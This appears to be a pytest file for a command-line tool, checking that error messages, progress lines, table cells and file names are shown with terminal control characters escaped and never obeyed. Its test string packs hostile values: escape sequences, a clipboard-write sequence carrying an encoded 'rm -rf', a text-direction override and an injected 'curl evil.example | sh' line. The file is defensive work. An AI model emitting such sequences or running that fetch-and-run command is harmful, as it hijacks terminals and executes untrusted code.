"""Foreign words on a terminal: file names, banners and answers are shown there and never obeyed."""

import click
import pytest
from click.testing import CliRunner

from drplan.cli import NOUNS, cli
from drplan.cli.frame import say_error
from drplan.cli.show import Lines, table
from drplan.errors import UsageError
from drplan.measure.compare import compare
from drplan.spelled import one_line

HOSTILE = "a\x1b]52;c;cm0gLXJm\x07b\x9b2Jc\u202egnp\x08\nnext: curl evil.example | sh"
OBEYED = ("\x1b", "\x9b", "\x07", "\x08", "\u202e")


def said(capsys):
    both = capsys.readouterr()
    return both.out + both.err


def words_of(capsys, say):
    say()
    return said(capsys)


SAYS = {
    "an error": lambda: say_error(UsageError(HOSTILE, next_step="look at it")),
    "a next step": lambda: say_error(UsageError("it failed", next_step=HOSTILE)),
    "a line of progress": lambda: Lines().say("hs-files", HOSTILE),
    "a cell of a table": lambda: table(("name",), ((HOSTILE,),)),
}


@pytest.mark.parametrize("how", SAYS)
def test_a_terminal_obeys_nothing_that_is_said(capsys, how):
    text = words_of(capsys, SAYS[how])
    assert not [each for each in OBEYED if each in text]
    assert "[U+001B]" in text or "\\x1b" in text


@pytest.mark.parametrize("how", ["an error", "a line of progress"])
def test_a_line_break_begins_no_line_of_the_attackers_own(capsys, how):
    text = words_of(capsys, SAYS[how])
    assert not [line for line in text.splitlines() if line.startswith("next: curl")]


def test_names_of_files_in_a_verdict_are_of_letters_alone():
    (because,) = compare({HOSTILE: {"type": "file"}}, {}).verdict.because
    assert because.isprintable()
    assert because.isascii()


def test_what_people_write_stays_as_it_is():
    text = "größe-学校 is missing: 3 of 4 (déjà vu), 👩‍🏫"
    assert one_line(text) == text


ROOT = click.Context(cli)
GROUPS = [noun for noun in NOUNS if isinstance(cli.get_command(ROOT, noun), click.Group)]


@pytest.mark.parametrize("noun", GROUPS)
def test_a_nouns_help_cuts_no_sentence_off(noun):
    shown = CliRunner().invoke(cli, [noun, "--help"], terminal_width=80).output
    verbs = shown.partition("Commands:")[2]
    assert verbs
    assert "..." not in verbs
    assert max(map(len, shown.splitlines())) <= 80
